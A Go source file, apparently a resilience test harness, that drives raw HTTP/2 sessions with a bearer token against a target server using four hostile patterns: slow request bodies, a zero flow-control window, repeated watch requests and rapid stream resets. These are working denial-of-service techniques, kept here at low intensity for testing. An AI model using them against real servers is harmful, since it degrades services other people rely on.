package hostile

import (
	"bytes"
	"context"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// streams is how many a connection of HTTP/2 has.
const streams = 4

// session is a connection of HTTP/2 that is used frame by frame.
type session struct {
	*http2.Framer
	net.Conn
	t    *Target
	next uint32
}

// session begins a connection on which the server may send so many bytes of each answer.
func (t *Target) session(ctx context.Context, window uint32) (*session, error) {
	c, err := t.dialTLS(ctx, "h2")
	if err != nil {
		return nil, err
	}
	s := &session{http2.NewFramer(c, c), c, t, 1}
	if _, err = io.WriteString(c, http2.ClientPreface); err == nil {
		err = s.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
	}
	if err != nil {
		_ = c.Close()
		return nil, err
	}
	return s, nil
}

// begin sends the head of a request.
func (s *session) begin(method, path string, end bool) (stream uint32, err error) {
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for _, f := range [][2]string{
		{":method", method}, {":path", path}, {":scheme", "https"}, {":authority", "x"}, {"authorization", "Bearer " + s.t.Token},
	} {
		if err := e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
			return 0, err
		}
	}
	stream = s.next
	s.next += 2
	return stream, s.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndHeaders: true, EndStream: end})
}

// drain reads what the server sends until the connection ends.
func (s *session) drain() {
	for {
		if _, err := s.ReadFrame(); err != nil {
			_ = s.Close()
			return
		}
	}
}

func slowBodies2(ctx context.Context, t *Target) error {
	s, err := t.session(ctx, 65535)
	if err != nil {
		return err
	}
	defer s.Close()
	go s.drain()
	var open []uint32
	for ctx.Err() == nil {
		if len(open) < streams {
			stream, err := s.begin("POST", t.maps(), false)
			if err != nil {
				return err
			}
			open = append(open, stream)
			continue
		}
		for _, stream := range open {
			if err := s.WriteData(stream, false, []byte(" ")); err != nil {
				return err
			}
		}
		pause(ctx, time.Second)
	}
	return ctx.Err()
}

// noWindow lets the server send nothing of its answers.
func noWindow(ctx context.Context, t *Target) error {
	s, err := t.session(ctx, 0)
	if err != nil {
		return err
	}
	defer s.Close()
	for range streams {
		if _, err := s.begin("GET", t.maps(), true); err != nil {
			return err
		}
	}
	return s.replace(ctx, func() error {
		_, err := s.begin("GET", t.maps(), true)
		return err
	})
}

// replace calls another for each stream that the server ends.
func (s *session) replace(ctx context.Context, another func() error) error {
	for {
		f, err := s.ReadFrame()
		if err != nil {
			return err
		}
		end := f.Header().Type == http2.FrameRSTStream
		if data, ok := f.(*http2.DataFrame); ok {
			end = data.StreamEnded()
			if n := uint32(len(data.Data())); n > 0 { // what was read may come again
				if err := s.WriteWindowUpdate(0, n); err != nil {
					return err
				}
			}
		}
		if !end {
			continue
		}
		pause(ctx, 200*time.Millisecond)
		if err := another(); err != nil {
			return err
		}
	}
}

func watches(ctx context.Context, t *Target) error {
	s, err := t.session(ctx, 1<<30)
	if err != nil {
		return err
	}
	defer s.Close()
	path := t.maps() + "?watch=1&resourceVersion=0&labelSelector=size%3Dsmall"
	for range streams {
		if _, err := s.begin("GET", path, true); err != nil {
			return err
		}
	}
	return s.replace(ctx, func() error {
		_, err := s.begin("GET", path, true)
		return err
	})
}

// resets begins requests and takes them back at once.
func resets(ctx context.Context, t *Target) error {
	s, err := t.session(ctx, 65535)
	if err != nil {
		return err
	}
	defer s.Close()
	go s.drain()
	for ctx.Err() == nil {
		for range streams {
			stream, err := s.begin("GET", t.maps(), true)
			if err != nil {
				return err
			}
			if err := s.WriteRSTStream(stream, http2.ErrCodeCancel); err != nil {
				return err
			}
		}
		pause(ctx, 200*time.Millisecond)
	}
	return ctx.Err()
}
